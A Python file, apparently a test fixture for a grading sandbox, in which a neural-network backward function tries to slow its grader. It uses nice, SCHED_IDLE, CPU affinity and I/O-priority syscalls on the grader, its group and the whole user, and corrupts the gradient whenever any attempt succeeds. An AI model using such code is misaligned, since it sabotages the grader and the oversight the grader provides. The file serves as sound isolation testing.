# Hostile part: linear_backward tries to slow the grader (its parent, and the pid the test passes in) and
# everything of its user: nice 7 on the grader, its
# group and the whole user (os.setpriority), SCHED_IDLE and one CPU for the grader (os.sched_setscheduler,
# os.sched_setparam, os.sched_setaffinity), and the lowest I/O class by the raw ioprio_set call. It returns the
# right answer only if every attempt was refused.
import ctypes
import os

import numpy as np

IOPRIO_SET = {"x86_64": 251, "aarch64": 30}
NICE = 7
GRADER = __GRADER_PID__  # a process of the grading user, named by the test: what a worker could guess


def linear_backward(dZ, cache):
    landed = 0
    for grader in {os.getppid(), GRADER} - {0, os.getpid()}:  # 0 and its own pid: itself
        landed += _slow_down(grader)
    A_prev, W, b = cache
    m = A_prev.shape[1]
    dW = dZ @ A_prev.T / m
    db = np.sum(dZ, axis=1, keepdims=True) / m * (1 + landed)
    return W.T @ dZ, dW, db


def _slow_down(grader):
    attempts = (
        lambda: os.setpriority(os.PRIO_PROCESS, grader, NICE),
        lambda: os.setpriority(os.PRIO_PGRP, os.getpgid(grader), NICE),
        lambda: os.setpriority(os.PRIO_USER, os.getuid(), NICE),
        lambda: os.setpriority(os.PRIO_USER, 0, NICE),
        lambda: os.sched_setscheduler(grader, os.SCHED_IDLE, os.sched_param(0)),
        lambda: os.sched_setparam(grader, os.sched_param(0)),
        lambda: os.sched_setaffinity(grader, {sorted(os.sched_getaffinity(0))[0]}),
        lambda: _raw(IOPRIO_SET.get(os.uname().machine), 1, grader, 3 << 13),  # IOPRIO_WHO_PROCESS, class idle
    )
    landed = 0
    for attempt in attempts:
        try:
            attempt()
            landed += 1
        except (OSError, ValueError, TypeError):
            pass
    return landed


def _raw(number, *args):
    if number is None or ctypes.CDLL(None, use_errno=True).syscall(number, *args) != 0:
        raise OSError(ctypes.get_errno(), "refused")
